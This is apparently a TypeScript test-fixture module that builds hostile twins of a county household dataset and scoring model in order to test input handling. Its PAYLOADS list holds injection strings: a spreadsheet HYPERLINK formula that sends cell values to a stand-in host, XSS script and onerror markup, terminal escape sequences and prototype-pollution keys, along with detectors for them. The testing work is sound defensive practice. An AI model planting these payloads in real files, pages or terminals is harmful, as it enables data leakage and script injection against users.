/**
 * Hostile inputs for the sweep (test/hostile_sweep.test.ts), built from the committed sample
 * county (data/sample, 300 households): each hostile dataset or model has a plain twin that differs
 * only in the renamed values, so an accepted hostile input must score exactly like its twin.
 */
import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { toCsv } from "../../src/base/csv.ts";
import { parseCsv } from "../../src/ingest/_csv_parse.ts";

/** A table: header and rows of text cells ("" is null). */
export interface Table {
  header: string[];
  rows: string[][];
}

/** A dataset in memory: table name → table, plus extra raw files (name → bytes or text). */
export interface Dataset {
  tables: Record<string, Table>;
  raw?: Record<string, string | Uint8Array>;
}

const SAMPLE = "data/sample";

/** The sample county's three tables (no dataset.json: types are inferred, as for a twin). */
export function sample(): Dataset {
  const tables: Record<string, Table> = {};
  for (const name of ["households", "members", "verified"]) {
    const [header, ...rows] = parseCsv(readFileSync(join(SAMPLE, `${name}.csv`), "utf8"));
    tables[name] = { header, rows: rows.filter((r) => r.length === header.length) };
  }
  return { tables };
}

/** A deep copy. */
export function clone(d: Dataset): Dataset {
  return {
    tables: Object.fromEntries(
      Object.entries(d.tables).map(([k, t]) => [k, { header: [...t.header], rows: t.rows.map((r) => [...r]) }]),
    ),
    raw: d.raw ? { ...d.raw } : undefined,
  };
}

/** Renames values of `column` in every table that has it, through `rename`; returns the map plain → hostile. */
export function renameValues(
  d: Dataset,
  column: string,
  rename: (value: string, index: number) => string,
): Map<string, string> {
  const map = new Map<string, string>();
  for (const t of Object.values(d.tables)) {
    const c = t.header.indexOf(column);
    if (c < 0) continue;
    for (const r of t.rows) {
      if (r[c] === "") continue;
      if (!map.has(r[c])) map.set(r[c], rename(r[c], map.size));
      r[c] = map.get(r[c])!;
    }
  }
  return map;
}

/** Adds a column of the given values (a function of the row index) to a table. */
export function addColumn(t: Table, name: string, value: (row: number) => string): void {
  t.header.push(name);
  t.rows.forEach((r, i) => r.push(value(i)));
}

/** Sets one column of a table row by row. */
export function setColumn(t: Table, name: string, value: (old: string, row: number) => string): void {
  const c = t.header.indexOf(name);
  if (c < 0) throw new Error(`no column ${name}`);
  t.rows.forEach((r, i) => (r[c] = value(r[c], i)));
}

/** The text of a table as CSV (RFC 4180 quoting; formulas kept: this is a data file). */
export function tableCsv(t: Table): string {
  return toCsv(t.header, t.rows.map((r) => r.map((v) => (v === "" ? null : v))), { formulas: "keep" });
}

/** A fresh folder under the system temp folder. */
export function tempFolder(prefix: string): string {
  return mkdtempSync(join(tmpdir(), `hostile-${prefix}-`));
}

/** Writes a dataset into a fresh folder; returns its path. */
export function writeDataset(d: Dataset, prefix = "ds"): string {
  const dir = tempFolder(prefix);
  for (const [name, t] of Object.entries(d.tables)) writeFileSync(join(dir, `${name}.csv`), tableCsv(t));
  for (const [name, content] of Object.entries(d.raw ?? {})) {
    mkdirSync(join(dir, name, ".."), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}

/** Replaces a table file of a written dataset by a symlink to `target`. */
export function linkTable(dir: string, file: string, target: string): void {
  symlinkSync(target, join(dir, file));
}

/** The default county model as an object. */
export function defaultModel(): Record<string, unknown> & {
  id: string;
  indicators: Record<string, unknown>[];
  categories: Record<string, unknown>[];
  bands: { id: string; min: number }[];
} {
  return JSON.parse(readFileSync("models/county-default.json", "utf8"));
}

/** Writes a model (an object, or raw text or bytes) into a fresh folder; returns the file's path. */
export function writeModel(model: unknown, prefix = "model"): string {
  const file = join(tempFolder(prefix), "model.json");
  writeFileSync(
    file,
    typeof model === "string" || model instanceof Uint8Array ? model : JSON.stringify(model, null, 2),
  );
  return file;
}

/** Text cells a spreadsheet would run, markup a browser would run, and sequences a terminal would run. */
export const PAYLOADS = [
  (v: string) => `=HYPERLINK("http://x.example/?${v}","${v}")`,
  (v: string) => `+${v}`,
  (v: string) => `-${v}`,
  (v: string) => `@SUM(1)${v}`,
  (v: string) => `\t${v}`,
  (v: string) => `<script>alert(1)</script>${v}`,
  (v: string) => `</textarea><img src=x onerror=alert(1)>${v}`,
  (v: string) => `\x1b[2J\x1b]0;pwned\x07${v}`,
  () => "__proto__",
  () => "constructor",
  () => "toString",
  () => "hasOwnProperty",
  () => "none",
];

/** Keys every plain object inherits or that collide with the toolkit's own keys. */
export const HOSTILE_KEYS = ["__proto__", "constructor", "toString", "hasOwnProperty", "none"];

/** What a raw terminal must never receive: control characters other than line feed and tab. */
// deno-lint-ignore no-control-regex
export const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f\u202e]/;

/** A cell a spreadsheet would run: starts with = + - @ tab or CR and is not a plain number. */
export function isFormulaCell(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);
}

/** Every cell of a CSV text (quotes removed). */
export function csvCells(text: string): string[] {
  return parseCsv(text.replace(/^\ufeff/, "")).flat();
}

/** A parsed CSV as header and rows. */
export function readCsv(text: string): Table {
  const [header, ...rows] = parseCsv(text);
  return { header, rows };
}

/**
 * Rows of `hostile` mapped back to plain values (the reverse of `maps`, per column; a leading `'`
 * added by the formula guard is dropped first), sorted, so that equal scores give equal lists.
 */
export function unmapRows(t: Table, maps: Record<string, Map<string, string>>): string[] {
  const reverse = Object.fromEntries(
    Object.entries(maps).map(([col, m]) => [col, new Map([...m].map(([plain, hostile]) => [hostile, plain]))]),
  );
  return t.rows.map((r) =>
    r.map((cell, c) => {
      const back = reverse[t.header[c]];
      if (!back || cell === "") return cell;
      return back.get(cell) ?? back.get(cell.replace(/^'/, "")) ?? `?${cell}`;
    }).join("|")
  ).sort();
}
